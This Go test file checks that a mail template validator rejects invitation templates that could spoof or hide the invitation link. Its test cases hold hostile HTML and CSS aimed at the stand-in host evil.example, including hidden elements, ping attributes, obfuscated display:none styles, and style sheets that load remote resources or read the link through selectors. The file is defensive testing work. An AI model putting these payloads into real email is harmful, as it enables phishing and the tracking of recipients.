// Copyright The Usher Authors
// SPDX-License-Identifier: Apache-2.0

package template_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/usher-dev/usher/internal/wording"
)

const inBrackets = "write {{.Link}} in a line without quotes and outside of < and >: " +
	"otherwise some mail programs take everything in between for one address"

// White space is not enough if a mail program does not see it, or does not take it for the end of an
// address.
func TestMailsThatReadTheLinkWithSomethingElse(t *testing.T) {
	t.Parallel()
	const evil = "https://evil.example/?u="
	attribute := func(name, value, of string) string {
		return fmt.Sprintf("an attribute %s=%q is not allowed in <%s>", name, value, of)
	}
	style := func(style, of string) string { return fmt.Sprintf("a style %q is not allowed in <%s>", style, of) }
	const tooLong = "elements such as <b> are open too long; close each of them in the block that it is in"
	fonts := func(attribute string, n int) string {
		var all strings.Builder
		for i := range n {
			fmt.Fprintf(&all, attribute, i)
		}
		return all.String()
	}
	const styleSheet = "an element <style> is not allowed in a mail"
	for name, c := range map[string]struct{ file, source, want string }{
		"angle brackets":                            {"txt", "<" + evil + " {{.Link}} >", inBrackets},
		"angle brackets in lines":                   {"txt", "<\n" + evil + "\n{{.Link}}\n>", inBrackets},
		"quotes":                                    {"txt", `a "` + evil + ` {{.Link}} "`, inBrackets},
		"angle brackets in HTML":                    {"html", "<p>&lt;" + evil + " {{.Link}} &gt;</p>", inBrackets},
		"quotes in HTML":                            {"html", "<p>&quot;" + evil + " {{.Link}} &#34;</p>", inBrackets},
		"a table that drops a link":                 {"html", evil + "<table>{{.Link}}</table>", apartInHTML},
		"a row that drops a link":                   {"html", evil + "<table><tr><tr> </tr>{{.Link}}</table>", apartInHTML},
		"a cell without a table":                    {"html", evil + "<td>{{.Link}}</td>", apartInHTML},
		"the end of a block that was not opened":    {"html", evil + "</div>{{.Link}}", apartInHTML},
		"the end of a table that was not opened":    {"html", evil + "</table>{{.Link}}", apartInHTML},
		"a hidden block":                            {"html", evil + "<p hidden></p>{{.Link}}", attribute("hidden", "", "p")},
		"a block that pops up":                      {"html", evil + "<p POPOVER></p>{{.Link}}", attribute("popover", "", "p")},
		"an address that receives clicks":           {"html", `<a ping="https://evil.example" href="{{.Link}}">a</a>`, attribute("ping", "https://evil.example", "a")},
		"an event":                                  {"html", `<a onclick="x()" href="{{.Link}}">a</a>`, attribute("onclick", "x()", "a")},
		"a block that is not displayed":             {"html", evil + `<p style="display:none"></p>{{.Link}}`, style("display:none", "p")},
		"an inline block":                           {"html", evil + `<p style="color:red; DISPLAY : inline-block">{{.Link}}</p>`, style("DISPLAY : inline-block", "p")},
		"a space between columns":                   {"html", `<b style="display:flex"><b>` + evil + "</b> <i>{{.Link}}</i></b>", style("display:flex", "b")},
		"a block that floats":                       {"html", evil + `<p style="float:left">{{.Link}}</p>`, style("float:left", "p")},
		"a positioned block":                        {"html", evil + `<p style="position:absolute">{{.Link}}</p>`, style("position:absolute", "p")},
		"a block without its styles":                {"html", evil + `<p style="all:unset">{{.Link}}</p>`, style("all:unset", "p")},
		"an invisible space":                        {"html", evil + `<b style="visibility:hidden"> </b>{{.Link}}`, style("visibility:hidden", "b")},
		"a block with other content":                {"html", evil + `<p style="content:url(x)"></p>{{.Link}}`, style("content:url(x)", "p")},
		"a space at the end of an element":          {"html", evil + `<b> </b>{{.Link}}`, apartInHTML},
		"a style as entities":                       {"html", evil + `<p style="d&#105;splay:none"></p>{{.Link}}`, style("display:none", "p")},
		"a style in disguise":                       {"html", evil + `<p style="d\69splay:none"></p>{{.Link}}`, style(`d\69splay:none`, "p")},
		"a style with a comment":                    {"html", evil + `<p style="display&#47;**/:none"></p>{{.Link}}`, style("display/**/:none", "p")},
		"a style sheet that hides":                  {"html", "<style>p { display:none }</style>" + evil + "<p></p>{{.Link}}", styleSheet},
		"a style sheet that reads the link":         {"html", "<style>a[href$=x] { color: red }</style>", styleSheet},
		"a style sheet that loads":                  {"html", "<style>a { background: URL(//evil.example/) }</style>", styleSheet},
		"a style sheet that loads another":          {"html", "<style>@import 'https://evil.example';</style>", styleSheet},
		"a style sheet that loads a set":            {"html", `<style>a { background: image-set("//evil.example/" 1x) }</style>`, styleSheet},
		"a style sheet in disguise":                 {"html", `<style>a { background: u\72l(//evil.example/) }</style>`, styleSheet},
		"elements that continue in each block":      {"html", "<p>" + fonts("<b class=a%d>", 100) + strings.Repeat("<p>x", 2000), tooLong},
		"attributes that continue":                  {"html", "<p><b" + fonts(" a%d", 1000) + ">" + strings.Repeat("<p>x", 200), attribute("a0", "", "b")},
		"more nested elements than a program reads": {"html", strings.Repeat("<div>", 600), "the elements are nested too deeply"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			templates, errs := parseOwn(ownInvitation("invitation."+c.file, "{{.Link}}\n"+c.source))
			if diff := cmp.Diff([]string{c.want}, reasons(errs)); diff != "" {
				got, err := templates.Invitation("en", anInvitation())
				t.Errorf("faults (-want +got):\n%s\nThe mail: %q, %q, %v", diff, got.Text, got.HTML, err)
			}
		})
	}
}

// Some faults are known only after a mail is written, so the written mail is checked too.
func TestMailsThatWouldCarryTheLinkAreInTheBuiltInWording(t *testing.T) {
	t.Parallel()
	d := anInvitation()
	d.Name, d.Message = "Ada <", "See you > there"
	const evil = "https://evil.example/?u="
	for name, source := range map[string][]string{
		"brackets in values":         {"invitation.txt", "{{.Name}} " + evil + "\n{{.Link}}\n{{.Message}}"},
		"brackets in values in HTML": {"invitation.html", "<p>{{.Name}} " + evil + "\n{{.Link}}\n{{.Message}}</p>"},
		"a rare branch":              {"invitation.html", "{{if eq .Name `Ada <`}}" + evil + "<table>{{.Link}}</table>{{end}}\n{{.Link}}"},
		"a rare attribute":           {"invitation.html", "<p {{if eq .Name `Ada <`}}hidden{{end}}>\n{{.Link}}"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			templates := parse(t, ownInvitation(source...))
			builtIn, err := wording.Templates{}.Invitation("de", d)
			if err != nil {
				t.Fatal(err)
			}
			got, err := templates.Invitation("de", d)
			if diff := cmp.Diff(builtIn, got); err != nil || diff != "" {
				t.Errorf("%v; the mail (-built-in +got):\n%s", err, diff)
			}
			got, err = templates.Invitation("de", anInvitation())
			if err != nil || got.Subject != "Join Acme & Söhne" {
				t.Errorf("got %q, %v, want their own wording, because it carries nothing", got.Subject, err)
			}
		})
	}
}
